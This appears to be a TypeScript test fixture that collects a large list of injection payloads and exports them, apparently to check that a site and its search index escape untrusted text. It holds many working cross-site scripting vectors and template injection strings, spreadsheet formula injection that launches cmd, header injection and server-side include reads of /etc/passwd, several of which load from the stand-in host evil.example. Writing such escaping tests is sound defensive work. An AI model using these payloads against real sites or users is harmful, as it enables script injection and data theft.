/**
 * Texts that would run if any page, list or script took them for markup or code. Each calls `alert`, or sets
 * `__pwned`, so that a run leaves a trace. None has a line break: a field takes one line.
 */
const MARKUP = `
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script src=data:,alert(1)></script>
<script>window.__pwned=1</script >
<script/x>alert(1)</script>
<script type=module>alert(1)</script>
<script type=importmap>{}</script><script>alert(1)</script>
<script async src=https://evil.example/a></script>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</xmp><script>alert(1)</script>
</iframe><script>alert(1)</script>
</plaintext><script>alert(1)</script>
</p><script>alert(1)</script>
</h1></article><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"/>
<img/src=x/onerror=alert(1)>
<img src="x" onerror='alert(1)'>
<img src=x:x onerror=alert(1)//
<img src onerror=alert(1) x
<IMG SRC=x ONERROR=alert(1)>
<img src=x one&#114;ror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=1 onerror=alert${'`'}1${'`'}>
<img src=x onload=alert(1)>
<img srcset=x onerror=alert(1)>
<img src=https://evil.example/p.gif>
<img src=//evil.example/p.gif>
<img src=data:image/svg+xml,<svg/onload=alert(1)>>
<image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type=hidden accesskey=x onclick=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<button form=search-form formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=//evil.example>x</button></form>
<form id=search-form><input name=attributes>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onscroll=alert(1)>
<body background=javascript:alert(1)>
<html onclick=alert(1)>
<frameset onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<iframe srcdoc=&lt;script&gt;parent.__pwned=1&lt;/script&gt;></iframe>
<iframe src=https://evil.example/></iframe>
<iframe onload=alert(1)></iframe>
<frame src=javascript:alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed code=https://evil.example/x.swf>
<applet code=x></applet>
<base href=https://evil.example/>
<base href=javascript:/a/+alert(1)//>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=https://evil.example/x>
<link rel=prefetch href=https://evil.example/>
<link rel=preload as=script href=https://evil.example/>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content=0;url=https://evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=content-security-policy content="script-src *">
<meta http-equiv=set-cookie content=a=b>
<meta charset=utf-7>+adw-script+ad4-alert(1)+adw-/script+ad4-
<style>@import'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/)}</style>
<style>*{x:expression(alert(1))}</style>
<style onload=alert(1)></style>
<p style="background:url(//evil.example/)">x
<p style=x:expression(alert(1))>
<p style=-moz-binding:url(//evil.example/x)>
<p style=position:fixed;inset:0;z-index:9>x
<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>
<div onpointerenter=alert(1)>x</div>
<div onanimationstart=alert(1) class=row>x</div>
<div ontransitionend=alert(1)>x</div>
<div contenteditable onbeforeinput=alert(1)>x</div>
<div popover onbeforetoggle=alert(1)>x</div>
<div tabindex=0 onfocusin=alert(1) autofocus>x</div>
<details open ontoggle=alert(1)>x</details>
<details/open/ontoggle=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video autoplay onloadstart=alert(1) src=data:,></video>
<audio src=x onerror=alert(1)>
<audio src=https://evil.example/a.mp3 autoplay>
<track default onerror=alert(1)>
<bgsound src=javascript:alert(1)>
<table background=javascript:alert(1)>
<td background=//evil.example/>
<isindex action=javascript:alert(1) type=submit>
<portal src=https://evil.example/></portal>
<slot onslotchange=alert(1)></slot>
<template shadowrootmode=open><script>alert(1)</script></template>
<custom-element onclick=alert(1)>x</custom-element>
<a href=javascript:alert(1)>x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,cnVu">x</a>
<a href=vbscript:msgbox(1)>x</a>
<a href=//evil.example>x</a>
<a href=https://evil.example target=_blank rel=opener>x</a>
<a ping=https://evil.example/ href=/about/>x</a>
<a onclick=alert(1) href=#>x</a>
<a id=location href=https://evil.example/>x</a>
<a id=__pwned></a><a id=__pwned name=x></a>
<map><area href=javascript:alert(1)></map>
`;

const FOREIGN = `
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href=data:,alert(1) />
<svg><script xlink:href=data:,alert(1)></script>
<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>
<svg><a><animate attributename=href values=javascript:alert(1) /><text y=9>x</text></a>
<svg><animate onbegin=alert(1) attributename=x dur=1s>
<svg><set onbegin=alert(1) attributename=x to=1>
<svg><set attributename=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x">
<svg><use href=//evil.example/x.svg#x>
<svg><foreignobject><iframe srcdoc=x onload=alert(1)></foreignobject></svg>
<svg><image href=x onerror=alert(1)>
<svg><style>@import'//evil.example/x'</style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><discard onbegin=alert(1)>
<svg><handler type=text/javascript>alert(1)</handler></svg>
<math><mtext></mtext><script>alert(1)</script></math>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<p title="</p><img src=x onerror=alert(1)>">
<p id="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<select><template><p title="</template><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<!doctype html><script>alert(1)</script>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 'x' ?><img src=x onerror=alert(1)>
<!entity x "<script>alert(1)</script>">
<% alert(1) %>
<xml><x>&lt;img src=x onerror=alert(1)&gt;</x></xml>
<xss:script xmlns:xss=http://www.w3.org/1999/xhtml>alert(1)</xss:script>
`;

const BREAKOUTS = String.raw`
" onmouseover=alert(1) x="
' onmouseover=alert(1) x='
${'`'} onmouseover=alert(1) x=${'`'}
" autofocus onfocus=alert(1) tabindex=1 x="
"/onmouseover=alert(1)/x="
"onclick=alert(1)//
" style=position:fixed;inset:0 onclick=alert(1) "
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
/><img src=x onerror=alert(1)>
\"><img src=x onerror=alert(1)>
\'><img src=x onerror=alert(1)>
%22%3E%3Cscript%3Ealert(1)%3C/script%3E
&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&ltscript&gtalert(1)&lt/script&gt
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
¼script¾alert(1)¼/script¾
";alert(1);//
';alert(1);//
\";alert(1);//
</script><svg onload=alert(1)>
'-alert(1)-'
"-alert(1)-"
\'-alert(1)//
*/alert(1)/*
//%0aalert(1)//
javascript:alert(1)
JaVaScRiPt:alert(1)
java&#10;script:alert(1)
javascript&colon;alert(1)
javascript:%61lert(1)
javascript://evil.example/%0aalert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg onload=alert(1)>
vbscript:msgbox(1)
view-source:javascript:alert(1)
blob:null/x
//evil.example/x.js
\\evil.example\x
`;

const TEMPLATES = `
{{alert(1)}}
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{[].pop.constructor('alert(1)')()}}
{{=alert(1)}}
{%alert(1)%}
{% raw %}<script>alert(1)</script>{% endraw %}
[[${'$'}{alert(1)}]]
${'$'}{alert(1)}
#{alert(1)}
@{alert(1)}
<%= alert(1) %>
*{alert(1)}
{alert(1)}
{(()=>{__pwned=1})()}
{globalThis.__pwned=1}
{/* */}<script>alert(1)</script>
{...{onclick:alert}}
{"<script>alert(1)</script>"}
<p set:html={alert(1)} />
<p set:text="x" client:load />
<script define:vars={{x:1}}>alert(1)</script>
<script is:inline>alert(1)</script>
<style is:global define:vars={{a:1}}></style>
<fragment set:html="<script>alert(1)</script>" />
<slot name="head"><script>alert(1)</script></slot>
<astro-island uid=x component-url=data:,alert(1) client=load></astro-island>
<astro-island component-url=//evil.example/x.js renderer-url=//evil.example/y.js client=only opts={}>
import x from 'https://evil.example/x.js'
export const x = alert(1)
---const x = alert(1)---
$&$'$1<script>alert(1)</script>
__proto__
constructor
[object Object]
<p data-pagefind-body>x</p>
<p data-pagefind-ignore=all>
<p data-pagefind-meta="title:<script>alert(1)</script>">
" data-pagefind-meta="url:javascript:alert(1)
<p data-pagefind-filter="x:y" data-pagefind-sort=z>
<mark>alert(1)</mark><img src=x onerror=alert(1)>
<pagefind-modal></pagefind-modal><script>alert(1)</script>
<p data-search data-root=//evil.example/ data-permanent=javascript:alert(1)>
<p data-rows data-answered><img src=x onerror=alert(1)>
" data-root="//evil.example/
=hyperlink("https://evil.example/","x")
+cmd|' /c calc'!a0
-2+3+cmd|' /c calc'!a0
@sum(1+1)*cmd|' /c calc'!a0
x;=cmd|' /c calc'!a0
%0d%0aset-cookie: a=b
%0d%0a%0d%0a<script>alert(1)</script>
[x](javascript:alert(1))
![x](https://evil.example/p.gif)
<javascript:alert(1)>
[x]: javascript:alert(1)
${'```'}html <script>alert(1)</script>
&lt;!--#exec cmd="x"--&gt;
<!--#include virtual="/etc/passwd"-->
`;

const lines = (text: string) => text.split('\n').filter(Boolean);

/** All of them, each once; those for a formula are for the table that search gives away. */
export const PAYLOADS: readonly string[] = [
	...new Set([MARKUP, FOREIGN, BREAKOUTS, TEMPLATES].flatMap(lines).map((payload) => payload.trim())),
];

/** A made-up word by which the thing that carries a payload can be searched for. */
export function wordOf(index: number): string {
	const letter = (place: number) => 'bcdfghjklm'.charAt(Math.floor(index / 10 ** place) % 10);
	return `zu${letter(2)}o${letter(1)}a${letter(0)}u`;
}
